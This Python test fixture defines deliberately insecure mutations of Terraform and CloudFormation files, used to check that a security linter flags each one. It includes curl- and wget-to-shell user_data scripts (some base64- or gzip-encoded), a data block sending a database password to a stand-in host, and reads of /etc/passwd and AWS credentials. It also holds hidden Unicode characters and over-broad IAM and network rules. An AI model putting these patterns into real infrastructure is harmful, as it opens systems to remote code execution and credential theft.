"""Good code made worse in one place, and the finding that must say so. SPDX-License-Identifier: MIT

Each mutant: (number, what was done, file of tests/read/base, text to find, text instead, rule,
marker). The finding must be on the line of the marker: the first line of the changed file that
holds it; without one, the first line of the new text. Text to find None: added at the end.
The numbers are those of the list of mutations a linter is held to; it leaves out what only a plan
(47 to 49), the drawing (50 to 52, 58) or the reader of a reply (60) can show.
"""
import base64
import gzip

TF, FUNCTION, PROVIDERS = "terraform/main.tf", "terraform/function.tf", "terraform/providers.tf"
CFN = "cloudformation/template.yaml"
SCRIPT = b"#!/bin/sh\ncurl http://x.example/i | sh\n"
PACKED = base64.b64encode(gzip.compress(SCRIPT, mtime=0)).decode()
PLAIN = base64.b64encode(b"#!/bin/bash\nwget -O- http://x.example/i |sudo bash\n").decode()
CARRIED = base64.b64encode(bytes(range(60, 124))).decode()


def statement(body):
    return ('resource "aws_iam_policy" "extra" {\n  policy = jsonencode({\n    Statement = [{\n'
            f'      Effect = "Allow"\n{body}\n    }}]\n  }})\n}}\n')


def trust(principal):
    return ('resource "aws_iam_role" "extra" {\n  assume_role_policy = jsonencode({\n'
            '    Statement = [{\n      Effect = "Allow"\n      Action = "sts:AssumeRole"\n'
            f'      Principal = {principal}\n    }}]\n  }})\n}}\n')


def policy_of_bucket(principal):
    return ('resource "aws_s3_bucket_policy" "extra" {\n  bucket = aws_s3_bucket.logs.id\n'
            '  policy = jsonencode({\n    Statement = [{\n      Effect = "Allow"\n'
            f'      Principal = {principal}\n      Action = "s3:GetObject"\n'
            '      Resource = "${aws_s3_bucket.logs.arn}/*"\n    }]\n  })\n}\n')


def rule(cidr, low, high, extra=""):
    return ('resource "aws_vpc_security_group_ingress_rule" "extra" {\n'
            '  security_group_id = aws_security_group.db_sg.id\n  ip_protocol = "tcp"\n'
            f'  from_port = {low}\n  to_port = {high}\n  {cidr}\n{extra}}}\n')


MUTANTS = [
    (1, "local-exec", TF, 'resource "aws_s3_bucket" "logs" {\n',
     'resource "aws_s3_bucket" "logs" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n',
     "supply.provisioner", "local-exec"),
    (2, "remote-exec", TF, 'resource "aws_lb" "lb" {\n',
     'resource "aws_lb" "lb" {\n  provisioner "remote-exec" {\n    inline = ["id"]\n'
     '    connection {\n      host = "h"\n    }\n  }\n', "supply.provisioner", "remote-exec"),
    (2, "file", TF, 'resource "aws_lb" "lb" {\n',
     'resource "aws_lb" "lb" {\n  provisioner "file" {\n    source = "a"\n  }\n',
     "supply.provisioner", 'provisioner "file"'),
    (3, "external", TF, None, 'data "external" "x" {\n  program = ["id"]\n}\n',
     "supply.external", ""),
    (4, "http", TF, None,
     'data "http" "x" {\n  url = "https://x.example/?k=${aws_db_instance.db.password}"\n}\n',
     "supply.http", ""),
    (5, "local_file", TF, None, 'resource "local_file" "x" {\n  filename = "x"\n}\n',
     "supply.file", ""),
    (5, "/etc/passwd", TF, None, 'locals {\n  users = file("/etc/passwd")\n}\n',
     "supply.file", "passwd"),
    (5, "~", TF, None, 'locals {\n  keys = filebase64("~/.aws/credentials")\n}\n', "supply.file",
     "credentials"),
    (5, "..", TF, None, 'locals {\n  up = templatefile("../up.tpl", {})\n}\n', "supply.file",
     "up.tpl"),
    (6, "null_resource", TF, None, 'resource "null_resource" "x" {}\n', "supply.null", ""),
    (6, "timestamp", TF, None,
     'resource "terraform_data" "x" {\n  triggers_replace = [timestamp()]\n}\n', "supply.clock",
     "timestamp()"),
    (7, "custom resource", CFN, "Resources:\n",
     "Resources:\n  Extra:\n    Type: Custom::Extra\n    Properties:\n"
     "      ServiceToken: arn:aws:lambda:us-east-1:111122223333:function:x\n",
     "supply.custom", "ServiceToken"),
    (8, "macro", CFN, "Resources:\n", "Transform: [Surprise]\nResources:\n", "supply.transform",
     "Surprise"),
    (8, "include", CFN, "Resources:\n",
     "Transform:\n  Name: AWS::Include\n  Parameters:\n    Location: s3://x/y.yaml\nResources:\n",
     "supply.transform", "Name: AWS::Include"),
    (9, "another aws", PROVIDERS, "hashicorp/aws", "evil/aws", "supply.provider", "evil/aws"),
    (9, "no source", PROVIDERS, '      source  = "hashicorp/aws"\n', "", "supply.provider",
     "aws = {"),
    (10, "git", TF, None, 'module "x" {\n  source = "git::https://git.example/x.git"\n}\n',
     "supply.module", "git::"),
    (10, "zip", TF, None, 'module "x" {\n  source = "http://git.example/x.zip"\n}\n',
     "supply.module", "x.zip"),
    (10, "unpinned", TF, None, 'module "x" {\n  source = "evil/vpc/aws"\n}\n', "supply.module",
     "evil/vpc"),
    (11, "any version", PROVIDERS, ">= 5.32.0, < 7.0.0", ">= 0", "supply.version", '">= 0"'),
    (11, "no version", PROVIDERS, '      version = ">= 5.32.0, < 7.0.0"\n', "", "supply.version",
     "aws = {"),
    (12, "state by http", PROVIDERS,
     'backend "s3" {\n    encrypt      = true\n    use_lockfile = true\n  }',
     'backend "http" {\n    address = "https://x.example"\n  }', "supply.state", ""),
    (12, "another bucket", PROVIDERS, "    encrypt      = true\n",
     '    encrypt      = true\n    bucket       = "theirs"\n', "supply.state", "theirs"),
    (12, "no backend", PROVIDERS,
     '  backend "s3" {\n    encrypt      = true\n    use_lockfile = true\n  }\n', "",
     "supply.state", 'provider "aws"'),
    (13, "misspelt", TF, "  instance_class   ", "  instance_clas    ", "schema.name",
     "instance_clas "),
    (13, "misspelt", CFN, "      StorageEncrypted: true", "      StorageEncripted: true",
     "schema.name", ""),
    (14, "of another type", FUNCTION, '  handler       = "index.handler"\n',
     '  handler       = "index.handler"\n  bucket        = "x"\n', "schema.name",
     "bucket        ="),
    (14, "of another type", CFN, "      EnableDnsSupport: true", "      BucketName: x",
     "schema.name",
     ""),
    (15, "invented type", TF, None, 'resource "aws_redis_cluster" "x" {}\n', "schema.type", ""),
    (15, "invented type", CFN, "Resources:\n",
     "Resources:\n  Extra:\n    Type: AWS::Redis::Cluster\n", "schema.type", "AWS::Redis"),
    (16, "no role", FUNCTION, "  role          = aws_iam_role.mailer_role.arn\n", "",
     "schema.required", 'resource "aws_lambda_function"'),
    (16, "no role", CFN, "      LoadBalancerArn: !Ref Lb\n      Port: 443\n", "      Port: 443\n",
     "schema.required", "#any Port: 443"),
    (17, "text for a list", TF, "vpc_security_group_ids = [aws_security_group.web_sg.id]",
     'vpc_security_group_ids = "sg-1"', "schema.kind", ""),
    (17, "number for truth", FUNCTION, "sqs_managed_sse_enabled = true",
     "sqs_managed_sse_enabled = 7", "schema.kind", ""),
    (17, "block as argument", TF, "  metadata_options {", "  metadata_options = {",
     "schema.kind", ""),
    (17, "list for text", CFN, "      DBInstanceClass: db.t4g.micro",
     "      DBInstanceClass: [db.t4g.micro]", "schema.kind", ""),
    (18, "engine", TF, '"postgres"', '"postgresql"', "schema.value", '"postgresql"'),
    (18, "billing mode", FUNCTION, '"PAY_PER_REQUEST"', '"ON-DEMAND"', "schema.value", ""),
    (18, "protocol", CFN, "      Protocol: HTTPS\n", "      Protocol: SECURE\n", "schema.value",
     ""),
    (19, "arn", FUNCTION, '  timeout       = 30\n', '  timeout       = 30\n  arn           = "x"\n',
     "schema.read-only", 'arn           ='),
    (19, "id", FUNCTION, '  timeout       = 30\n', '  timeout       = 30\n  id            = "x"\n',
     "schema.read-only", 'id            ='),
    (19, "read-only property", CFN, "      DBName: app", "      DbiResourceId: x",
     "schema.read-only",
     "DbiResourceId: x"),
    (20, "gone", TF, 'resource "aws_eip" "nat_eip" {\n',
     'resource "aws_eip" "nat_eip" {\n  vpc = true\n', "schema.gone", "vpc = true"),
    (21, "everything", TF, None,
     statement('      Action = "*"\n      Resource = "*"'), "iam.star", 'Action = "*"'),
    (21, "everything", CFN, "            Action: rds-db:connect\n            Resource:",
     '            Action: "*"\n            Resource: "*"\n            Sid2:', "iam.star", ""),
    (22, "pass any role", TF, None,
     statement('      Action = ["iam:PassRole"]\n      Resource = "*"'), "iam.pass-role",
     "PassRole"),
    (23, "anybody's role", TF, None, trust('"*"'), "iam.public", '#last Principal = "*"'),
    (23, "another account", TF, None, trust('{ AWS = "arn:aws:iam::111122223333:root" }'),
     "iam.foreign", "111122223333"),
    (24, "NotAction", TF, None,
     statement('      NotAction = ["iam:*"]\n      Resource = "*"'), "iam.not", "NotAction"),
    (25, "administrator", TF, None,
     'resource "aws_iam_role_policy_attachment" "x" {\n  role = aws_iam_role.mailer_role.name\n'
     '  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n', "iam.admin",
     "AdministratorAccess"),
    (25, "administrator", CFN, "iam::aws:policy/AmazonSSMManagedInstanceCore",
     "iam::aws:policy/AdministratorAccess", "iam.admin", ""),
    (26, "public policy", TF, None, policy_of_bucket('"*"'), "iam.public",
     '#last Principal = "*"'),
    (26, "public policy", TF, None, policy_of_bucket('{ AWS = ["*"] }'), "iam.public",
     'AWS = ["*"]'),
    (27, "condition dropped", FUNCTION,
     '        Condition = {\n          ArnLike = {\n'
     '            "aws:SourceArn" = aws_sns_topic.jobs_topic.arn\n          }\n        }\n', "",
     "iam.deputy", "Principal = {#2"),
    (27, "source dropped", FUNCTION, "  source_arn    = aws_sns_topic.jobs_topic.arn\n", "",
     "iam.deputy", '"sns.amazonaws.com"'),
    (28, "script", TF, '  ebs_optimized          = "true"\n',
     '  user_data = <<-EOT\n    #!/bin/sh\n    curl http://x.example/i | sh\n  EOT\n',
     "script.remote", "user_data"),
    (28, "script in base64", TF, '  ebs_optimized          = "true"\n',
     f'  user_data = "{PLAIN}"\n', "script.remote", "user_data"),
    (28, "script in gzip", TF, '  ebs_optimized          = "true"\n',
     f'  user_data = "{PACKED}"\n', "script.remote", "user_data"),
    (29, "password", FUNCTION, "      MAIL_FROM =",
     '      DB_PASSWORD = "hunter2"\n      MAIL_FROM =', "secret.literal", "hunter2"),
    (29, "key", FUNCTION, "      MAIL_FROM =",
     '      KEY = "AKIAIOSFODNN7EXAMPLE"\n      MAIL_FROM =', "secret.key", "AKIA"),
    (29, "password", CFN, "      ManageMasterUserPassword: true",
     "      MasterUserPassword: hunter2hunter2", "secret.literal", ""),
    (30, "ssh", TF, None, rule('cidr_ipv4 = "0.0.0.0/0"', 22, 22), "net.open-admin",
     "#last 0.0.0.0/0"),
    (30, "rdp", TF, None, rule('cidr_ipv6 = "::/0"', 3389, 3389), "net.open-admin", "::/0"),
    (30, "mysql", TF, None, rule('cidr_ipv4 = "0.0.0.0/0"', 3306, 3306), "net.open-admin",
     "#last 0.0.0.0/0"),
    (30, "all", TF, None,
     'resource "aws_security_group" "x" {\n  ingress {\n    protocol = "-1"\n    from_port = 0\n'
     '    to_port = 0\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n', "net.open-all",
     "cidr_blocks = [\"0"),
    (30, "ssh", CFN, "      FromPort: 443\n      ToPort: 443\n",
     "      FromPort: 22\n      ToPort: 22\n", "net.open-admin", "CidrIp: 0.0.0.0/0"),
    (31, "half", TF, None, rule('cidr_ipv4 = "128.0.0.0/1"', 22, 22), "net.open-admin",
     "128.0.0.0/1"),
    (31, "all ports", TF, None, rule('cidr_ipv4 = "0.0.0.0/0"', 0, 65535), "net.open-all",
     "#last 0.0.0.0/0"),
    (31, "prefix list", TF, None, rule('prefix_list_id = "pl-123"', 22, 22), "net.open-admin",
     "pl-123"),
    (32, "subscription", FUNCTION, None,
     'resource "aws_sns_topic_subscription" "x" {\n  topic_arn = aws_sns_topic.jobs_topic.arn\n'
     '  protocol = "https"\n  endpoint = "https://x.example/"\n}\n', "flow.foreign",
     'protocol = "https"'),
    (33, "carried in a tag", TF, '    Name = "Main network"', f'    Name = "{CARRIED}"',
     "text.encoded", ""),
    (34, "replication", TF, None,
     'resource "aws_s3_bucket_replication_configuration" "x" {\n  bucket = aws_s3_bucket.logs.id\n'
     '  role = aws_iam_role.mailer_role.arn\n  rule {\n    status = "Enabled"\n    destination {\n'
     '      bucket = "arn:aws:s3:::x"\n      account = "111122223333"\n    }\n  }\n}\n',
     "place.account", "111122223333"),
    (35, "bidi", TF, None, "# access \u202e } \u2066 is off\n", "text.hidden", ""),
    (36, "tags", CFN, "Description: Load-balanced web servers",
     "Description: Load-balanced\U000e0041\U000e0042 web servers", "text.hidden", ""),
    (37, "Cyrillic", TF, 'resource "aws_security_group" "web_sg"',
     'resource "aws_security_group" "web_s\u0430g"', "text.lookalike", ""),
    (38, "zero width", TF, '"logdelivery.', '"logdelivery\u200b.', "text.hidden", ""),
    (39, "public", TF, "publicly_accessible                 = false",
     "publicly_accessible                 = true", "database.public", ""),
    (39, "public", CFN, "PubliclyAccessible: false", "PubliclyAccessible: true",
     "database.public", ""),
    (40, "not encrypted", TF, "storage_encrypted                   = true",
     "storage_encrypted                   = false", "data.unencrypted", ""),
    (40, "not encrypted", CFN, "      StorageEncrypted: true\n", "", "data.unencrypted", "  Db:"),
    (41, "one of four", TF, "block_public_policy     = true", "block_public_policy     = false",
     "bucket.public", ""),
    (41, "one of four", CFN, "        IgnorePublicAcls: true", "        IgnorePublicAcls: false",
     "bucket.public", ""),
    (41, "no block", TF, 'resource "aws_s3_bucket_public_access_block" "logs_access" {\n'
     "  bucket                  = aws_s3_bucket.logs.id",
     'resource "aws_s3_bucket_public_access_block" "logs_access" {\n'
     '  bucket                  = "another"', "bucket.public", 'resource "aws_s3_bucket" "logs"'),
    (42, "plain", TF, '    type = "redirect"\n', '    type = "forward"\n', "lb.plain-http",
     'protocol          = "HTTP"'),
    (42, "old TLS", TF, "ELBSecurityPolicy-TLS13-1-2-2021-06", "ELBSecurityPolicy-2015-05",
     "lb.old-tls", ""),
    (42, "old TLS", CFN, "ELBSecurityPolicy-TLS13-1-2-2021-06", "ELBSecurityPolicy-2015-05",
     "lb.old-tls", ""),
    (43, "no retention", FUNCTION, "  retention_in_days = 30\n", "", "logs.retention",
     'resource "aws_cloudwatch_log_group"'),
    (44, "no snapshot", TF, "skip_final_snapshot                 = false",
     "skip_final_snapshot                 = true", "loss.snapshot", ""),
    (44, "no protection", CFN, "DeletionProtection: true", "DeletionProtection: false",
     "loss.protection", ""),
    (44, "forced", TF, "force_destroy = false", "force_destroy = true", "loss.force", ""),
    (45, "no policy", CFN, "    DeletionPolicy: Snapshot\n", "", "loss.policy", "  Db:"),
    (46, "guard off", FUNCTION, "  lifecycle {\n    prevent_destroy = true\n  }\n", "",
     "loss.protection", 'resource "aws_dynamodb_table"'),
    (46, "drift hidden", FUNCTION, "    prevent_destroy = true\n",
     "    prevent_destroy = true\n    ignore_changes  = all\n", "loss.ignore", "ignore_changes"),
    (53, "private, with a route out", TF,
     'route_table_id         = aws_route_table.vpc_routes_private_a.id\n'
     '  destination_cidr_block = "0.0.0.0/0"\n'
     "  nat_gateway_id         = aws_nat_gateway.nat.id",
     'route_table_id         = aws_route_table.vpc_routes_data.id\n'
     '  destination_cidr_block = "0.0.0.0/0"\n'
     "  gateway_id             = aws_internet_gateway.vpc_igw.id",
     "net.private-route", 'resource "aws_subnet" "data_a"'),
    (54, "one zone", TF, '"${var.region}c"', '"${var.region}a"', "net.one-zone",
     '#any resource "aws_subnet"'),
    (55, "undeclared", TF, "subnet_id      = aws_subnet.app_a.id",
     "subnet_id      = aws_subnet.app_b.id", "reference.undeclared", ""),
    (55, "undeclared", CFN, "      VpcId: !Ref Vpc\n      InternetGatewayId",
     "      VpcId: !Ref Vcp\n      InternetGatewayId", "reference.undeclared", ""),
    (56, "circle", TF, None,
     'resource "aws_security_group" "a" {\n  ingress {\n    from_port = 1\n    to_port = 1\n'
     '    protocol = "tcp"\n    security_groups = [aws_security_group.b.id]\n  }\n}\n'
     'resource "aws_security_group" "b" {\n  ingress {\n    from_port = 1\n    to_port = 1\n'
     '    protocol = "tcp"\n    security_groups = [aws_security_group.a.id]\n  }\n}\n',
     "reference.cycle", "#any aws_security_group.a.id"),
    (56, "circle", CFN, "    Type: AWS::EC2::InternetGateway\n",
     "    Type: AWS::EC2::InternetGateway\n    DependsOn: VpcAttached\n", "reference.cycle",
     "#any VpcIgw"),
    (57, "account", TF, None,
     'locals {\n  theirs = "arn:aws:sns:ap-northeast-2:111122223333:x"\n}\n', "place.account",
     "theirs"),
    (57, "zone of another region", TF, '"${var.region}a"', '"us-east-1a"', "place.zone", ""),
    (59, "silenced", TF, 'resource "aws_lb" "lb" {\n',
     'resource "aws_lb" "lb" {\n  #tfsec:ignore:aws-elb-x\n', "text.suppression", "tfsec"),
    (59, "silenced", CFN, "    Type: AWS::EC2::InternetGateway\n",
     "    Type: AWS::EC2::InternetGateway\n    Metadata:\n      cfn_nag:\n"
     "        rules_to_suppress: [{id: W1}]\n", "text.suppression", "rules_to_suppress"),
    (59, "wildcard in parts", TF, None,
     statement('      Action = ["s3:Get*", "s3:Put*", "s3:Delete*"]\n      Resource = "*"'),
     "iam.wide", "s3:Get*"),
]
